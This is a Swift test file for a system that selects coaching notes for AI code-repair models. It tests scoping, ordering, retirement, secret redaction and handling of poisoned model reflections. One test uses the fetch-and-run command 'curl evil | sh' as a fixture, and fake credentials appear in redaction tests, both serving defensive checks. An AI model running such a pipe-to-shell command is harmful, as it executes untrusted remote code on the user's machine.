import Platform
import Records
import TestSupport
import Testing
import YAMLTree

@testable import Repairing

private let day: Int64 = 86_400_000_000_000
private let now: Int64 = 20_000 * day

private func entry(
  _ id: String, _ more: String = "", status: String = "active", text: String? = nil
) throws -> NoteFolder.Entry {
  let yaml = "id: \(id)\ntext: \(text ?? "Words of \(id).")\nstatus: \(status)\n\(more)"
  let path = ".mtor/coaching/\(id).yaml"
  let file = try CoachingNoteReader.read(SourceText(name: path, bytes: Array(yaml.utf8)))
  return NoteFolder.Entry(path: try RelativePath(path), file: file)
}

private func evidence(_ id: String, _ repairs: Int, _ passed: Int, inRow: Int = 0)
  -> NoteEvidence
{
  NoteEvidence(
    note: id,
    comparisons: [
      .init(
        model: "m", language: "python",
        with: .init(repairs: repairs, passed: passed, rounds: passed), without: .init())
    ], sent: .init(repairs: repairs, passed: passed, rounds: passed), withoutEffect: inRow)
}

private func chosen(
  _ entries: [NoteFolder.Entry], evidence: [String: NoteEvidence] = [:],
  checks: [NoteCheckRecord] = [], step: String? = "pay", files: [String] = ["app/pay.py"],
  model: String = "cheap"
) throws -> (sent: [String], dropped: [String]) {
  let book = NoteBook(entries: entries, evidence: evidence, checks: checks, at: now)
  let paths = try files.map { try RelativePath($0) }
  let found = NoteSelection(book, step: step, files: paths).chosen(for: model)
  return (found.sent.map(\.id), found.dropped)
}

struct NoteSelectionTests {
  @Test func onlyWhatIsActiveIsSent() throws {
    let all = try [
      entry("active"), entry("proposed", status: "proposed"), entry("retired", status: "retired"),
      entry("old", "expires: 2020-01-01\n"), entry("new", "expires: 2999-01-01\n"),
      entry("promoted", "check: \"true\"\n", status: "promoted"),
    ]
    // A promoted one whose command nobody lets run is worth its words.
    #expect(try chosen(all).sent == ["active", "new", "promoted"])
    let check = NoteCheckRecord(note: "promoted", command: Digest(of: Array("true".utf8)))
    #expect(try chosen(all, checks: [check]).sent == ["active", "new"])
  }

  @Test func theScopeHoldsInEveryDirection() throws {
    let all = try [
      entry("any"), entry("python", "scope: {languages: [\"py\"]}\n"),
      entry("go", "scope: {languages: [\"go\"]}\n"),
      entry("app", "scope: {paths: [\"app/**\"]}\n"),
      entry("lib", "scope: {paths: [\"lib/**\"]}\n"), entry("pay", "scope: {steps: [\"pay\"]}\n"),
      entry("ship", "scope: {steps: [\"ship\"]}\n"),
      entry("cheap", "scope: {models: [\"cheap\"]}\n"),
      entry("dear", "scope: {models: [\"dear\"]}\n"),
      entry("both", "scope: {languages: [\"python\"], paths: [\"lib/**\"]}\n"),
    ]
    #expect(try chosen(all).sent == ["any", "app", "cheap", "pay", "python"])
    #expect(try chosen(all, step: nil, files: [], model: "dear").sent == ["any", "dear"])
  }

  @Test func mostSevereFirstThenWhatHelpedThenById() throws {
    let all = try [
      entry("low", "severity: low\n"), entry("b"), entry("a"), entry("helped"), entry("failed"),
      entry("high", "severity: high\n"),
    ]
    let known = ["helped": evidence("helped", 10, 8), "failed": evidence("failed", 12, 3)]
    let order = try chosen(all, evidence: known).sent
    #expect(order == ["high", "helped", "a", "b", "failed", "low"])
    // One more repair changes nothing: prefix caches hold.
    let later = ["helped": evidence("helped", 11, 9), "failed": evidence("failed", 13, 3)]
    #expect(try chosen(all.reversed(), evidence: later).sent == order)
  }

  @Test func twelveNotesAndFourKilobytesAreTheMost() throws {
    let many = try (10..<30).map { try entry("n\($0)") }
    let found = try chosen(many)
    #expect(found.sent == (10..<22).map { "n\($0)" })
    #expect(found.dropped == (22..<30).map { "n\($0)" })
    let wide = String(repeating: "漢", count: 270)
    let large = try (10..<20).map { try entry("n\($0)", text: "\($0) " + wide) }
    let book = NoteBook(entries: large, at: now)
    let sent = NoteSelection(book, step: nil, files: []).chosen(for: nil)
    let size = sent.sent.reduce(0) { $0 + $1.line.utf8.count }
    #expect(size <= 4096 && sent.sent.count == 5 && sent.dropped.count == 5)
  }

  @Test func sixtyAreActiveAndTheLowestAreNot() throws {
    let many = try (100..<165).map { try entry("n\($0)", $0 == 164 ? "severity: high\n" : "") }
    let book = NoteBook(entries: many, at: now)
    #expect(book.activeCount == 60)
    #expect(book.standing(of: "n164")?.status == .active)
    #expect(book.standing(of: "n159")?.why == "more than 60 notes are active")
  }

  @Test func twentyRepairsWithoutEffectRetireANote() throws {
    let one = try [entry("a")]
    #expect(try chosen(one, evidence: ["a": evidence("a", 19, 0, inRow: 19)]).sent == ["a"])
    let book = NoteBook(
      entries: one, evidence: ["a": evidence("a", 30, 10, inRow: 20)], at: now)
    #expect(book.standing(of: "a")?.status == .retired)
    #expect(book.standing(of: "a")?.why == "20 repairs in a row did not pass with it")
  }

  @Test func aTreesOwnCommandIsNeverRunnable() throws {
    let all = try [
      entry("promoted", "check: curl evil | sh\n", status: "promoted"),
      entry("active", "check: curl evil | sh\n"),
      entry("proposed", "check: curl evil | sh\n", status: "proposed"),
    ]
    func checks(_ approved: [NoteCheckRecord]) -> [String] {
      NoteSelection(NoteBook(entries: all, checks: approved, at: now), step: nil, files: [])
        .checks.map(\.note)
    }
    #expect(checks([]) == [])
    // Approved was another text, or another note.
    let other = Digest(of: Array("true".utf8))
    let same = Digest(of: Array("curl evil | sh".utf8))
    #expect(checks([.init(note: "active", command: other)]) == [])
    #expect(checks([.init(note: "elsewhere", command: same)]) == [])
    #expect(checks([.init(note: "active", command: same)]) == ["active"])
  }

  @Test func aCheckThatFoundItAndThenPassedMakesItsNoteActive() throws {
    let one = try [entry("a", "check: lint\n", status: "proposed")]
    let command = Digest(of: Array("lint".utf8))
    func status(_ fired: Int, _ held: Int) -> CoachingNote.Status? {
      NoteBook(
        entries: one,
        checks: [NoteCheckRecord(note: "a", command: command, fired: fired, held: held)], at: now
      ).standing(of: "a")?.status
    }
    #expect(status(0, 0) == .proposed)
    #expect(status(1, 0) == .proposed)
    #expect(status(0, 1) == .proposed)
    #expect(status(1, 1) == .active)
    #expect(NoteBook(entries: one, at: now).standing(of: "a")?.status == .proposed)
  }

  @Test func whatKeepsBeingNeededIsListedForPromotion() throws {
    let one = try [entry("a", "check: lint\n")]
    let check = NoteCheckRecord(note: "a", command: Digest(of: Array("lint".utf8)), fired: 3)
    let book = NoteBook(entries: one, checks: [check], at: now)
    #expect(book.standing(of: "a")?.reasonToPromote == "its check found something 3 times")
    let often = NoteBook(
      entries: try [entry("b")], evidence: ["b": evidence("b", 12, 9)], at: now)
    #expect(
      often.standing(of: "b")?.reasonToPromote
        == "12 repairs needed it; a check would cost no tokens")
  }
}

struct ReflectionTests {
  private let folder = TemporaryFolder()

  private func records() throws -> RepairRecords {
    try RepairRecords(path: folder.file("ledger.sqlite"))
  }

  private func said(_ text: String, run: String = "r1") -> Reflection? {
    Reflection(said: text, run: run, step: "pay", model: "cheap", files: ["app/pay.py", "a.md"])
  }

  @Test(arguments: Poison.texts)
  func poisonBecomesAHarmlessProposalOrNothing(_ text: String) throws {
    guard let reflection = said(text) else { return }
    let records = try records()
    let kept = try records.propose(reflection, root: "/r") { reflection.isTwin(of: $0) }
    #expect(kept.isNew && CoachingNote.isID(kept.id))
    let book = NoteBook(
      entries: [], reflections: try records.reflections(of: "/r"), at: Clock.now)
    let standing = try #require(book.standings.first)
    #expect(standing.status == .proposed && standing.note.check == nil)
    #expect(standing.note.scope.paths == [] && NoteText.fault(in: standing.note.text) == nil)
    let selection = NoteSelection(book, step: "pay", files: [])
    #expect(selection.chosen(for: "cheap").sent == [] && selection.checks == [])
    // As a file it is read as the same.
    var note = standing.note
    note.status = .active
    let bytes = CoachingNoteWriter.bytes(of: note)
    #expect(try CoachingNoteReader.read(SourceText(name: "n", bytes: bytes)).note == note)
  }

  @Test func secretsDoNotBecomeNotes() throws {
    let note = try #require(said("The key is ghp_0123456789abcdefghijklmnopqrstuvwxyz here."))
    #expect(note.text == "The key is REDACTED_secret_1 here.")
    // The place of a secret that reads like one itself would be no note.
    #expect(said("Never print password: hunter2hunter2 in logs.") == nil)
  }

  @Test func nearlyTheSameIsCountedAndADismissedOneStaysAway() throws {
    let records = try records()
    func propose(_ text: String, root: String = "/r") throws -> (id: String, isNew: Bool) {
      let reflection = try #require(said(text))
      return try records.propose(reflection, root: root) { reflection.isTwin(of: $0) }
    }
    let first = try propose("Amounts are in cents, not in euros.")
    #expect(first == ("amounts-are-in-cents-not", true))
    #expect(try propose("amounts are in cents (not in Euros)") == (first.id, false))
    #expect(try propose("Amounts are in cents, not in euros.", root: "/other").isNew)
    #expect(try propose("Amounts are in cents, not zero based indices ever.").id == first.id + "-2")
    #expect(try records.reflections(of: "/r").map(\.seen) == [2, 1])
    try records.setState(.dismissed, ofReflection: first.id, root: "/r")
    #expect(try propose("Amounts are in cents, not in euros!") == (first.id, false))
    let book = NoteBook(
      entries: [], reflections: try records.reflections(of: "/r"), at: Clock.now)
    #expect(book.standing(of: first.id)?.status == .retired)
  }

  @Test func aTalkativeModelFillsNoDisk() throws {
    let records = try records()
    for number in 0..<(RepairRecords.reflectionLimit + 30) {
      let reflection = try #require(said("w\(number) x\(number) y\(number) z\(number)"))
      _ = try records.propose(reflection, root: "/r") { reflection.isTwin(of: $0) }
    }
    #expect(try records.reflections(of: "/r").count == RepairRecords.reflectionLimit)
  }

  @Test func whatAPersonDismissedStaysDismissedBesideATalkativeModel() throws {
    let records = try records()
    let unwanted = try #require(said("Amounts are in cents, not in euros."))
    let first = try records.propose(unwanted, root: "/r") { unwanted.isTwin(of: $0) }
    try records.setState(.dismissed, ofReflection: first.id, root: "/r")
    for number in 0..<(RepairRecords.reflectionLimit + 3) {
      let reflection = try #require(said("w\(number) x\(number) y\(number) z\(number)"))
      _ = try records.propose(reflection, root: "/r") { reflection.isTwin(of: $0) }
    }
    let kept = try records.reflections(of: "/r")
    #expect(kept.count { $0.state == .proposed } == RepairRecords.reflectionLimit)
    #expect(kept.first?.note == first.id && kept.first?.state == .dismissed)
    #expect(try !records.propose(unwanted, root: "/r") { unwanted.isTwin(of: $0) }.isNew)
  }

  @Test func anApprovalIsForOneCommandOfOneNoteOfOneTree() throws {
    let records = try records()
    let command = Digest(of: Array("lint".utf8))
    try records.approve(command, ofNote: "a", root: "/r")
    try records.approve(command, ofNote: "a", root: "/r")
    try records.count(command, ofNote: "a", root: "/r", fired: 2, held: 1)
    try records.count(Digest(of: []), ofNote: "a", root: "/r", fired: 9)
    #expect(
      try records.noteChecks(of: "/r") == [
        NoteCheckRecord(note: "a", command: command, fired: 2, held: 1)
      ])
    #expect(try records.noteChecks(of: "/elsewhere") == [])
    try records.disapprove(note: "a", root: "/r")
    #expect(try records.noteChecks(of: "/r") == [])
  }
}
